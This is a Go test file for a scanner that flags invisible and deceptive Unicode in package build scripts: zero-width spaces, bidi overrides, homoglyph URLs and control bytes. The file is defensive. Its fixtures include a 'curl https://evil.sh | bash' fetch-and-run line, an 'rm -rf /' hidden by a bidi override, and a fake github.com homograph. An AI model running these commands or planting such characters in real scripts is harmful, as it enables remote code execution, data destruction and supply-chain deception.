package unicode

import (
	"strings"
	"testing"
)

func TestScan_CleanScript(t *testing.T) {
	input := "pkgname=hello\nbuild() {\n\tmake\n}\n"
	result := Scan(input)
	if !result.Clean {
		t.Errorf("expected clean result for plain PKGBUILD, got threats: %v", result.Threats)
	}
	if result.Sanitized != input {
		t.Errorf("expected sanitized = original, got %q", result.Sanitized)
	}
}

func TestScan_ZeroWidthSplitsKeyword(t *testing.T) {
	// cu<ZWSP>rl: the zero-width space hides the keyword from naive matching.
	input := "cu​rl https://evil.sh | bash"
	result := Scan(input)

	if result.Clean {
		t.Fatal("expected threats for zero-width space")
	}
	if len(result.Threats) != 1 {
		t.Fatalf("expected 1 threat, got %d", len(result.Threats))
	}
	if result.Threats[0].Category != "zero-width" {
		t.Errorf("category = %q", result.Threats[0].Category)
	}
	if !result.Threats[0].Invisible {
		t.Error("zero-width threat should be invisible")
	}
	if !strings.HasPrefix(result.Sanitized, "curl ") {
		t.Errorf("sanitized copy should rejoin the keyword, got %q", result.Sanitized)
	}
}

func TestScan_BOM(t *testing.T) {
	result := Scan("\uFEFFpkgname=hello")

	if result.Clean {
		t.Fatal("expected threats for BOM")
	}
	if result.Threats[0].Category != "zero-width" {
		t.Errorf("category = %q", result.Threats[0].Category)
	}
	if result.Sanitized != "pkgname=hello" {
		t.Errorf("sanitized = %q", result.Sanitized)
	}
}

func TestScan_BidiOverride(t *testing.T) {
	// Trojan Source: displayed order differs from logical order.
	input := "echo ‮rm -rf /‬ safe"
	result := Scan(input)

	if result.Clean {
		t.Fatal("expected threats for bidi override")
	}
	if !result.HasInvisible() {
		t.Error("bidi override should count as invisible")
	}
	found := false
	for _, threat := range result.Threats {
		if threat.Category == "bidi-override" {
			found = true
		}
	}
	if !found {
		t.Error("expected a bidi-override threat")
	}
}

func TestScan_TagCharacters(t *testing.T) {
	input := "echo \U000E0001hello\U000E007F"
	result := Scan(input)

	if result.Clean {
		t.Fatal("expected threats for tag characters")
	}
	found := false
	for _, threat := range result.Threats {
		if threat.Category == "tag-char" {
			found = true
		}
	}
	if !found {
		t.Error("expected a tag-char threat")
	}
}

func TestScan_ControlCharacters(t *testing.T) {
	result := Scan("ls\x00 -la")

	if result.Clean {
		t.Fatal("expected threats for control character")
	}
	if result.Threats[0].Category != "control-char" {
		t.Errorf("category = %q", result.Threats[0].Category)
	}
}

func TestScan_AllowsTabAndNewline(t *testing.T) {
	result := Scan("build() {\n\tmake\n}\r\n")
	if !result.Clean {
		t.Errorf("tab, newline, and CR should pass, got threats: %v", result.Threats)
	}
}

func TestScan_HomoglyphInSourceURL(t *testing.T) {
	// IDN homograph: gіthub.com with Cyrillic і (U+0456).
	input := `source=("https://g` + "і" + `thub.com/x/releases/x.tar.gz")`
	result := Scan(input)

	if result.Clean {
		t.Fatal("expected threats for IDN homograph")
	}
	homoglyphs := result.Homoglyphs()
	if len(homoglyphs) != 1 || homoglyphs[0].Category != "homoglyph-cyrillic" {
		t.Errorf("homoglyphs = %v", homoglyphs)
	}
	if result.HasInvisible() {
		t.Error("homoglyphs are visible; HasInvisible must stay false")
	}
	// Visible characters stay in the sanitized copy.
	if !strings.Contains(result.Sanitized, "gіthub.com") {
		t.Errorf("sanitized = %q", result.Sanitized)
	}
}

func TestScan_GreekHomoglyph(t *testing.T) {
	result := Scan("echο hello")

	if result.Clean {
		t.Fatal("expected threats for Greek homoglyph")
	}
	if result.Threats[0].Category != "homoglyph-greek" {
		t.Errorf("category = %q", result.Threats[0].Category)
	}
}

func TestScan_InvalidUTF8(t *testing.T) {
	result := Scan("pkgname=x\xff\xfe")

	if result.Clean {
		t.Fatal("expected threats for invalid UTF-8")
	}
	if result.Threats[0].Category != "invalid-utf8" {
		t.Errorf("category = %q", result.Threats[0].Category)
	}
	if strings.Contains(result.Sanitized, "\xff") {
		t.Error("invalid bytes must not survive sanitization")
	}
}

func TestScan_MultipleThreats(t *testing.T) {
	input := "cаt​ ‮file.txt"
	result := Scan(input)

	if result.Clean {
		t.Fatal("expected multiple threats")
	}
	if len(result.Threats) < 3 {
		t.Errorf("expected at least 3 threats, got %d: %v", len(result.Threats), result.Threats)
	}
}
